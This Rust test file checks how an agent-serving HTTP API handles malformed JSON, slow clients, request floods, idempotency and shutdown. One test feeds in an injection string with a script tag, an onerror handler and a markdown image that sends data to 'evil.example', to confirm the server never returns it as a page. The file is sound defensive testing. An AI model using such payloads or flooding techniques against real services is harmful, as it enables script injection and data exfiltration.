//! What goes wrong on purpose; the numbers are those of the list of faults that the server is built against.

use std::collections::HashSet;
use std::time::Duration;

use bytes::Bytes;
use futures::future::join_all;
use http::header::{ACCEPT, CONTENT_TYPE, LOCATION};
use martlet_server::{Auth, HttpOptions};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Instant, timeout};

use super::Server;
use super::server::{Frames, SOON, quick};

#[tokio::test]
async fn fault_01_bodies_that_are_no_json_are_refused_and_nothing_is_stored() {
    let server = Server::start().await;
    let ann = server.client("ann").await;
    let deep = format!("{{\"task\":{}1{}}}", "[".repeat(100_000), "]".repeat(100_000));
    let bodies: [(&[u8], u16); 8] = [
        (b"{\"task\":\"x", 400),
        (deep.as_bytes(), 400),
        (b"{\"task\":\"x\",\"task\":\"y\"}", 400),
        (b"{\"task\":\"\xff\"}", 400),
        (b"{\"task\":\"\\ud800\"}", 400),
        (b"{\"task\":\"\\u0000\"}", 400),
        (b"", 400),
        (&[b' '; 3 * 1024 * 1024], 413),
    ];
    for (body, status) in bodies {
        for path in ["/api/v1/runs", "/run-agent", "/agent/query", "/dag/execute", "/api/v1/sessions/x"] {
            let method = if path.ends_with("/x") { http::Method::PATCH } else { http::Method::POST };
            let request =
                ann.request(method, path).header(CONTENT_TYPE, "application/json").body(body.to_vec());
            let answer = ann.send(request).await;
            answer.problem(status);
            assert!(answer.text.len() < 3_000);
        }
    }
    assert_eq!(ann.get("/api/v1/runs").await.is(200)["runs"], json!([]));
    server.stop().await;
}

/// Who sends the head of a request slowly is cut off after 10 s, and who sends the body slowly after 30 s. The clock goes on
/// by itself while threads store, so that it only shows that nobody is cut off earlier.
#[tokio::test(start_paused = true)]
async fn fault_03_slow_requests_are_cut_off() {
    let server = Server::start().await;
    let ann = server.client("ann").await;
    let key = ann.key.clone().unwrap();
    let head = format!(
        "POST /api/v1/runs HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {key}\r\ncontent-type: application/json\r\n\
         content-length: 100\r\n\r\n{{\"task\":"
    );
    for (sent, least_s, answer) in [("", 9, ""), ("GET / HT", 9, ""), (&*head, 29, "HTTP/1.1 408")] {
        let began = Instant::now();
        let mut slow = TcpStream::connect(server.address).await.unwrap();
        slow.write_all(sent.as_bytes()).await.unwrap();
        let mut text = String::new();
        let _ = slow.read_to_string(&mut text).await;
        assert!(began.elapsed().as_secs() >= least_s, "{sent}");
        assert!(text.starts_with(answer), "{text}");
    }
    server.stop().await;
}

/// Who does not read its events is cut off; the run and the others do not notice, and it can read on later.
#[tokio::test]
async fn fault_04_a_reader_that_does_not_read_is_cut_off_and_can_come_back() {
    let server = Server::start().await;
    let ann = server.client("ann").await;
    let run = ann.run(json!({"task": "x"})).await;
    let id = run["id"].as_str().unwrap().to_owned();
    let before = run["last_event"].as_u64().unwrap();
    let big = json!({"type": "tool.returned", "output": "x".repeat(20_000)}).to_string();
    let many = vec![Bytes::from(big); 1_500];
    server.service.store().append_events(&id.parse().unwrap(), many).await.unwrap();
    tokio::time::pause();
    let socket = TcpSocket::new_v4().unwrap();
    socket.set_recv_buffer_size(4_096).unwrap();
    let mut lazy = socket.connect(server.address).await.unwrap();
    let key = ann.key.as_deref().unwrap();
    let head = format!(
        "GET /api/v1/runs/{id}/events HTTP/1.1\r\nhost: x\r\naccept: text/event-stream\r\nauthorization: Bearer {key}\r\n\r\n"
    );
    lazy.write_all(head.as_bytes()).await.unwrap();
    let counted = "martlet_sse_slow_client_disconnects_total 1";
    // The clock goes on by itself; what takes its own time is the connection.
    let began = std::time::Instant::now();
    while !server.service.metrics().text().unwrap().contains(counted) {
        assert!(began.elapsed() < SOON, "it is cut off");
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    tokio::time::resume();
    let mut got = Vec::new();
    let _ = lazy.read_to_end(&mut got).await;
    assert!(got.len() < 20_000_000, "{} bytes were buffered for it", got.len());
    let got = String::from_utf8_lossy(&got).into_owned();
    let last: u64 = got.lines().filter_map(|line| line.strip_prefix("id: ")?.parse().ok()).max().unwrap();
    // It may not have all of the last one.
    let rest = ann.events(&id, last - 1).await.all().await;
    let ids: Vec<_> = rest.iter().filter_map(|frame| frame.id).collect();
    assert!(ids.iter().copied().eq(last..=before + 1_500), "{:?} to {:?}", ids.first(), ids.last());
    server.stop().await;
}

/// Who waits for a run and goes away cancels it; who only reads its events does not.
#[tokio::test]
async fn fault_05_who_goes_away_takes_along_what_nobody_else_waits_for() {
    let server = Server::start().await;
    let ann = server.client("ann").await;
    let slow = json!({"agent": "slow", "task": "x"});
    let waiting = ann.posting("/api/v1/runs", &slow).header("prefer", "wait=300");
    let request = tokio::spawn(waiting.send());
    server.agents.waiting.notified().await;
    request.abort();
    let began = std::time::Instant::now();
    timeout(SOON, server.agents.dropped.notified()).await.expect("the tool is stopped");
    assert!(began.elapsed() < Duration::from_secs(1));
    let list = ann.get("/api/v1/runs").await.is(200);
    let ended = ann.ended(list["runs"][0]["id"].as_str().unwrap()).await;
    assert_eq!(ended["outcome"], "cancelled");

    // With a key the request can be repeated, so that the run goes on.
    let waiting =
        ann.posting("/api/v1/runs", &slow).header("prefer", "wait=300").header("idempotency-key", "k");
    let request = tokio::spawn(waiting.send());
    server.agents.waiting.notified().await;
    request.abort();
    server.agents.gate.add_permits(1);
    let again = ann.posting("/api/v1/runs", &slow).header("prefer", "wait=60").header("idempotency-key", "k");
    assert_eq!(ann.send(again).await.is(200)["answer"], "done");

    let request = ann.posting("/api/v1/runs", &slow).header(ACCEPT, "text/event-stream");
    let mut frames = Frames::of(request).await;
    server.agents.waiting.notified().await;
    frames.until(|frame| frame.id == Some(1)).await;
    let id = frames.headers[LOCATION].to_str().unwrap().rsplit('/').next().unwrap().to_owned();
    drop(frames);
    server.agents.gate.add_permits(1);
    assert_eq!(ann.ended(&id).await["answer"], "done");
    server.stop().await;
}

/// The same while a person is asked.
#[tokio::test]
async fn fault_05_a_question_of_a_run_that_nobody_waits_for_is_withdrawn() {
    let server = Server::start_payer().await;
    let ann = server.client("ann").await;
    let request = tokio::spawn(ann.posting("/run-agent", &json!({"task": "bob"})).send());
    let mut watch = None;
    timeout(SOON, async {
        loop {
            let list = ann.get("/api/v1/runs?state=waiting").await.is(200);
            if let Some(run) = list["runs"][0]["id"].as_str() {
                watch = Some(run.to_owned());
                break;
            }
        }
    })
    .await
    .expect("the run waits for a person");
    request.abort();
    let ended = ann.ended(&watch.unwrap()).await;
    assert_eq!((&ended["outcome"], &ended["pending_approvals"]), (&json!("cancelled"), &json!(0)));
    assert_eq!(ann.get("/api/v1/approvals").await.is(200)["approvals"], json!([]));
    server.stop().await;
}

/// One who asks for very much gets as much as one may have, and the others do not wait for it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fault_06_a_flood_of_one_is_refused_and_the_others_are_served() {
    let server = Server::start().await;
    let (ann, bob) = (server.client("ann").await, server.client("bob").await);
    let slow = json!({"agent": "slow", "task": "x"});
    let flood = join_all((0..1_000).map(|_| ann.post("/api/v1/runs", slow.clone()))).await;
    let taken = flood.iter().filter(|answer| answer.status == 202).count();
    // Two run, ten wait; one that was taken in while a slot became free makes no difference of more than two.
    assert!((10..=12).contains(&taken), "{taken}");
    for answer in flood.iter().filter(|answer| answer.status != 202) {
        assert_eq!(answer.problem(429), "user_limit");
        let after: u32 = answer.headers["retry-after"].to_str().unwrap().parse().unwrap();
        assert!((1..=120).contains(&after));
        assert_eq!(answer.headers["x-ratelimit-limit-requests"], "10");
        assert_eq!(answer.headers["x-ratelimit-remaining-requests"], "0");
    }
    assert_eq!(bob.run(json!({"task": "x"})).await["answer"], "echo: x");
    let queue = ann.get("/api/v1/queue").await.is(200);
    assert_eq!((&queue["running"], &queue["remaining"]), (&json!(2), &json!(0)));
    server.stop().await;
}

#[tokio::test]
async fn fault_07_a_request_that_is_repeated_is_done_once() {
    let server = Server::start().await;
    let ann = server.client("ann").await;
    let body = json!({"task": "x"});
    let send = |body: &Value| ann.send(ann.posting("/api/v1/runs", body).header("idempotency-key", "key 1"));
    let answers = join_all((0..10).map(|_| send(&body))).await;
    let ids: HashSet<String> =
        answers.iter().map(|answer| answer.json()["id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(ids.len(), 1, "{answers:?}");
    assert_eq!(send(&json!({"task": "y"})).await.problem(422), "idempotency_key_reused");
    assert_eq!(ann.get("/api/v1/runs").await.is(200)["runs"].as_array().unwrap().len(), 1);
    // The key is one among those of its owner.
    let bob = server.client("bob").await;
    let other = bob.send(bob.posting("/api/v1/runs", &body).header("idempotency-key", "key 1")).await.is(202);
    assert!(!ids.contains(other["id"].as_str().unwrap()));
    for key in ["", &"k".repeat(256)] {
        let refused = ann.send(ann.posting("/api/v1/runs", &body).header("idempotency-key", key)).await;
        assert_eq!(refused.problem(400), "bad_request");
    }
    server.stop().await;
}

/// Text is data: nothing that is answered is a page, and no browser takes it for one.
#[tokio::test]
async fn fault_12_nothing_that_is_answered_is_taken_for_a_page() {
    let server = Server::start().await;
    let ann = server.client("ann").await;
    let evil = "<script>alert(1)</script><img src=x onerror=y>![x](https://evil.example/?d=1)";
    let run = ann.run(json!({"task": evil})).await;
    assert!(run["answer"].as_str().unwrap().contains(evil));
    let id = run["id"].as_str().unwrap();
    let paths = [
        format!("/api/v1/runs/{id}"),
        format!("/api/v1/runs/{id}/events"),
        format!("/api/v1/runs/{id}/export"),
        format!("/api/v1/runs/{id}/export?format=markdown"),
        "/api/v1/runs".into(),
        format!("/api/v1/agents/{}", evil.replace(['/', '?', ' '], "")),
        "/api/v1/workflows/flow/graph".into(),
        "/history".into(),
        "/nothing".into(),
    ];
    for path in paths {
        let answer = ann.get(&path).await;
        let kind = answer.headers[CONTENT_TYPE].to_str().unwrap();
        assert!(!kind.contains("html"), "{path}: {kind}");
        assert_eq!(answer.headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(answer.headers["content-security-policy"], "default-src 'none'; sandbox", "{path}");
        assert_eq!(answer.headers["cache-control"], "no-store", "{path}");
    }
    server.stop().await;
}

/// A server that ends takes nothing in, tells so, and ends although clients hold on to their connections.
#[tokio::test]
async fn a_server_that_ends_says_so_and_ends() {
    let mut options = quick();
    options.grace = Duration::from_secs(2);
    let mut server = Server::start_with(options, HttpOptions::new(Auth::Keys)).await;
    let ann = server.client("ann").await;
    let id = ann.start(json!({"agent": "slow", "task": "x"})).await;
    server.agents.waiting.notified().await;
    // A connection that is open when the server begins to end may still ask.
    let waiting = tokio::spawn(
        ann.posting("/api/v1/runs", &json!({"agent": "slow", "task": "y"}))
            .header("prefer", "wait=60")
            .send(),
    );
    server.agents.waiting.notified().await;
    let idle = TcpStream::connect(server.address).await.unwrap();
    let began = std::time::Instant::now();
    let ended = server.ask_to_stop();
    // Whoever waits is told where the run stands.
    let answer = waiting.await.unwrap().unwrap();
    assert_eq!(answer.status(), 202);
    ended.await.unwrap().unwrap();
    assert!(began.elapsed() < Duration::from_secs(10));
    assert!(server.service.is_draining());
    let owner = martlet::core::Principal::new("acme", "ann").unwrap();
    let refused = server.service.submit(&owner, martlet_server::NewTask::words("x")).await.unwrap_err();
    assert_eq!(refused.kind().code(), "draining");
    let row = server.service.store().run(&id.parse().unwrap()).await.unwrap().unwrap();
    assert_eq!(row.outcome, None, "it goes on after the next start");
    drop(idle);
}

/// An application of one's own has the API below a path.
#[tokio::test]
async fn the_router_can_be_mounted_below_a_path() {
    let folder = tempfile::tempdir().unwrap();
    let mount = |router| {
        axum::Router::new().route("/own", axum::routing::get(async || "own")).nest("/agents", router)
    };
    let http = HttpOptions::new(Auth::Keys);
    let server = Server::start_in(folder.path(), quick(), http, super::agents(), mount).await;
    let mut ann = server.client("ann").await;
    assert_eq!(ann.get("/own").await.text, "own");
    assert_eq!(ann.get("/agents/livez").await.text, "ok\n");
    ann.base.push_str("/agents");
    assert_eq!(ann.run(json!({"task": "x"})).await["answer"], "echo: x");
    assert_eq!(ann.get("/nothing").await.problem(404), "not_found");
    server.stop().await;
}
